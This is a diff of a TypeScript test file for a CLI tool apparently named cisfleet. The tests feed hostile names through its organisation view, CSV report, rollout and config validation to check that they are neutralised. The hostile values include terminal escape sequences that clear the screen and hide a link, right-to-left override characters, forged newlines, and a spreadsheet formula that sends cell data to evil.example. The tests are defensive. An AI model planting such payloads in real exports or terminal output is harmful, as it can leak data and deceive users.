@@ -47,8 +47,16 @@ describe('hostile names from AWS through cisfleet org and report', () => {
       orgBuilder()
         .regions(HOME)
         .with(reportScenarioFields(HOME))
-        .account(ESCAPES, { ou: 'Workloads', name: `${CLEAR_SCREEN}${HIDDEN_LINK}`, allRegions: { defaultSecurityGroup: 'open' } })
-        .account(NEWLINE, { ou: `Workloads/${HOSTILE_OU}`, name: `Payments\n${FORGED}`, allRegions: { defaultSecurityGroup: 'open' } })
+        .account(ESCAPES, {
+          ou: 'Workloads',
+          name: `${CLEAR_SCREEN}${HIDDEN_LINK}`,
+          allRegions: { defaultSecurityGroup: 'open' },
+        })
+        .account(NEWLINE, {
+          ou: `Workloads/${HOSTILE_OU}`,
+          name: `Payments\n${FORGED}`,
+          allRegions: { defaultSecurityGroup: 'open' },
+        })
         .account(FORMULA, { ou: 'Workloads', name: '=HYPERLINK("https://evil.example/?"&A1,"x")' })
         .account(MINUS, { ou: 'Workloads', name: '-1+1' })
         .account(AT, { ou: 'Workloads', name: '@SUM(A1:A9)' })
@@ -68,26 +76,41 @@ describe('hostile names from AWS through cisfleet org and report', () => {
   });
 
   const context = () => {
-    const reporter = new RecordingReporter({ json: false, color: false, interactive: false, verbose: false, debug: false, progress: false });
+    const reporter = new RecordingReporter({
+      json: false,
+      color: false,
+      interactive: false,
+      verbose: false,
+      debug: false,
+      progress: false,
+    });
     const globals = { config: configPath, json: false, verbose: false, debug: false, yes: true, color: false };
     return { reporter, globals };
   };
 
   async function reportIn(format: ReportFormat): Promise<string> {
     const { reporter, globals } = context();
-    await report({ globals, reporter }, { drift: false, format }, {
-      endpoint: sim.url,
-      credentials: sim.credentialsFor('admin'),
-      sleep: async (ms) => {
-        sim.clock.advance(ms);
+    await report(
+      { globals, reporter },
+      { drift: false, format },
+      {
+        endpoint: sim.url,
+        credentials: sim.credentialsFor('admin'),
+        sleep: async (ms) => {
+          sim.clock.advance(ms);
+        },
       },
-    });
+    );
     return reporter.stdout.join('\n');
   }
 
   it('org: the tree shows escapes as text and forges no line', async () => {
     const { reporter, globals } = context();
-    await showOrganization({ globals, reporter }, { checkAccess: false }, { endpoint: sim.url, credentials: sim.credentialsFor('admin') });
+    await showOrganization(
+      { globals, reporter },
+      { checkAccess: false },
+      { endpoint: sim.url, credentials: sim.credentialsFor('admin') },
+    );
     const tree = reporter.all;
     expect(tree).toContain('\\x1b[2J\\x1b]8;;https://evil.example/\\x07click me');
     expect(tree).toContain(`Team\\u202eexe.txt\\n  ${FORGED}`);
@@ -115,7 +138,10 @@ describe('hostile names from AWS through cisfleet org and report', () => {
   it('report --format csv: formulas start with a single quote, numbers stay numbers', async () => {
     const csv = await reportIn('csv');
     const lines = csv.trimEnd().split('\r\n');
-    const namesOf = (id: string) => new Set(lines.filter((l) => l.startsWith(`${id},`)).map((l) => l.slice(id.length + 1, l.indexOf(',', id.length + 2))));
+    const namesOf = (id: string) =>
+      new Set(
+        lines.filter((l) => l.startsWith(`${id},`)).map((l) => l.slice(id.length + 1, l.indexOf(',', id.length + 2))),
+      );
     expect(namesOf(MINUS)).toEqual(new Set([`"'-1+1"`]));
     expect(namesOf(AT)).toEqual(new Set([`"'@SUM(A1:A9)"`]));
     expect(csv).toContain(`${FORMULA},"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`);
@@ -134,7 +160,11 @@ describe('hostile names from AWS through cisfleet rollout', () => {
   beforeAll(async () => {
     h = await rolloutHarness(
       demoScenario((scenario) => {
-        scenario.faults = { failingInstances: [{ accountId: FAILING, reason: `${CLEAR_SCREEN}${HIDDEN_LINK}\n  ${FORGED} ${RTL_OVERRIDE}` }] };
+        scenario.faults = {
+          failingInstances: [
+            { accountId: FAILING, reason: `${CLEAR_SCREEN}${HIDDEN_LINK}\n  ${FORGED} ${RTL_OVERRIDE}` },
+          ],
+        };
       }),
     );
   });
@@ -159,7 +189,10 @@ describe('hostile values from accounts.yaml through the built CLI', () => {
     const dir = mkdtempSync(join(tmpdir(), 'cisfleet-hostile-'));
     const config = join(dir, 'accounts.yaml');
     const region = `${CLEAR_SCREEN}${HIDDEN_LINK}${'x'.repeat(200)}`;
-    writeFileSync(config, `version: 1\norganization: { managementAccountId: '111111111111', homeRegion: us-east-1 }\ntargets: { organizationalUnits: [/Root/Workloads] }\nregions: [${JSON.stringify(region)}, "eu\\u202e-west-1\\n  ${FORGED}"]\n`);
+    writeFileSync(
+      config,
+      `version: 1\norganization: { managementAccountId: '111111111111', homeRegion: us-east-1 }\ntargets: { organizationalUnits: [/Root/Workloads] }\nregions: [${JSON.stringify(region)}, "eu\\u202e-west-1\\n  ${FORGED}"]\n`,
+    );
     const run = runCli(['validate', '--config', config]);
     expect(run.status).toBe(2);
     expect(run.stderr).toContain('"\\x1b[2J\\x1b]8;;https://evil.example/\\x07click me\\x1b]8;;\\x07xxx');
